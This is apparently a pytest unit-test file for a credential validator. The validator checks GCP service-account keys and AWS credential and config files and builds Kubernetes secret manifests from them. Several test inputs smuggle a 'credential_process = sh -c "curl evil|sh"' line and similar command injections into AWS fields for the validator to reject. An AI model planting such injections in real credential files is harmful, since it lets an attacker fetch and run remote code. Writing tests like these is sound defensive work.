"""The credential validator (shared by the hub page, REST and the future admission webhook)."""

import base64
import json

import pytest

from hub_ext.core.credentials import check_name, files_from_fields, secret_manifest, validate_files
from hub_ext.core.errors import UserInputError

pytestmark = pytest.mark.unit

SECRET_PART = "SuperSecretMaterial"
KEY = {"type": "service_account", "project_id": "vision-training", "private_key_id": "1",
       "private_key": f"-----BEGIN PRIVATE KEY-----\nMIIE{SECRET_PART}==\n-----END PRIVATE KEY-----\n",
       "client_email": "trainer@vision-training.iam.gserviceaccount.com"}
AWS = {"aws_access_key_id": "AKIAIOSFODNN7EXAMPLE", "aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEX" + SECRET_PART[:8]}


def gcp(**changes):
    key = {**KEY, **changes}
    return {"key_json": json.dumps({k: v for k, v in key.items() if v is not None})}


def test_a_service_account_key_is_accepted_as_is():
    creds = files_from_fields("gcp-credential", gcp())
    assert creds.kind == "gcp-credential" and json.loads(creds.files["key.json"]) == KEY


@pytest.mark.parametrize("fields, field, message", [
    ({"key_json": ""}, "key_json", "is required"),
    ({"key_json": "{not json"}, "key_json", "is not valid JSON"),
    ({"key_json": "[" * 5000 + "]" * 5000}, "key_json", "is not valid JSON"),  # deeper than json reads
    ({"key_json": "[1]"}, "key_json", "must be a JSON object"),
    (gcp(type="authorized_user"), "key_json.type", "service_account"),
    (gcp(project_id=None), "key_json.project_id", "is required"),
    (gcp(project_id="Bad_Project"), "key_json.project_id", "Google Cloud project id"),
    (gcp(private_key="MIIE" + SECRET_PART), "key_json.private_key", "PEM private key"),
    (gcp(client_email="nobody"), "key_json.client_email", "e-mail"),
    ({"key_json": "x" * 70000}, "key_json", "larger than 64 KiB"),
    ({**AWS, "aws_access_key_id": ""}, "aws_access_key_id", "is required"),
    ({**AWS, "aws_access_key_id": "akia" + SECRET_PART}, "aws_access_key_id", "AWS access key id"),
    ({**AWS, "aws_secret_access_key": "short"}, "aws_secret_access_key", "AWS secret access key"),
    ({**AWS, "aws_access_key_id": "ASIAIOSFODNN7EXAMPLE"}, "aws_session_token", "temporary"),
    ({**AWS, "region": "Europe"}, "region", "AWS region"),
    ({**AWS, "region": 'eu-west-1\ncredential_process = sh -c "curl evil|sh"'}, "region", "one word"),
    ({**AWS, "aws_access_key_id": "AKIAIOSFODNN7EXAMPLE\n[evil]"}, "aws_access_key_id", "one word"),
])
def test_bad_content_names_the_field_and_never_repeats_the_value(fields, field, message):
    kind = "gcp-credential" if "key_json" in fields else "aws-credential"
    with pytest.raises(UserInputError) as e:
        files_from_fields(kind, fields)
    assert e.value.field == field and message in e.value.message
    assert SECRET_PART not in str(e.value) and SECRET_PART.lower() not in str(e.value)


def test_aws_fields_become_shared_credentials_and_config_files():
    creds = files_from_fields("aws-credential", {**AWS, "aws_session_token": "FwoGZXIvYXdzE" * 4, "region": "eu-west-1"})
    assert creds.files == {
        "credentials": f"[default]\naws_access_key_id = {AWS['aws_access_key_id']}\n"
                       f"aws_secret_access_key = {AWS['aws_secret_access_key']}\n"
                       f"aws_session_token = {'FwoGZXIvYXdzE' * 4}\n",
        "config": "[default]\nregion = eu-west-1\n"}
    assert validate_files("aws-credential", creds.files) == creds  # a webhook sees the same files


@pytest.mark.parametrize("files, field", [
    ({"credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = "
                     "wJalrXUtnFEMI/K7MDENG/bPxRfiCY\ncredential_process = sh -c id\n"},
     "credentials.credential_process"),
    ({"credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n[other]\nx = y\n"}, "credentials"),
    ({"credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = "
                     "wJalrXUtnFEMI/K7MDENG/bPxRfiCY\n", "config": "[default]\nregion = eu-west-1\n"
                                                               "credential_process = sh -c id\n"},
     "config.credential_process"),
])
def test_aws_files_hold_only_known_keys_of_one_profile(files, field):
    with pytest.raises(UserInputError) as e:
        validate_files("aws-credential", files)
    assert e.value.field == field


def test_a_secrets_data_is_checked_by_file_name():
    with pytest.raises(UserInputError) as e:
        validate_files("aws-credential", {"credentials": "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"})
    assert e.value.field == "credentials.aws_secret_access_key"
    with pytest.raises(UserInputError) as e:
        validate_files("gcp-credential", {"key.json": json.dumps(KEY), "extra": "x"})
    assert e.value.field == "data.extra"


@pytest.mark.parametrize("name", ["", "A", "-a", "a-", "a_b", "x" * 41, None, 3])
def test_names_are_short_dns_labels(name):
    with pytest.raises(UserInputError):
        check_name(name)


def test_the_secret_is_labelled_typed_and_base64():
    creds = files_from_fields("gcp-credential", gcp())
    body = secret_manifest("vision", "trainer", "gcp-credential", creds, "training jobs", "alice")
    assert body["type"] == "gcp-credential" and body["metadata"]["namespace"] == "vision"
    assert body["metadata"]["labels"] == {"app.kubernetes.io/managed-by": "jupyterhub-mlplatform",
                                          "mlplatform.io/credential": "gcp-credential"}
    assert body["metadata"]["annotations"] == {"mlplatform.io/description": "training jobs",
                                               "mlplatform.io/created-by": "alice"}
    assert json.loads(base64.b64decode(body["data"]["key.json"])) == KEY
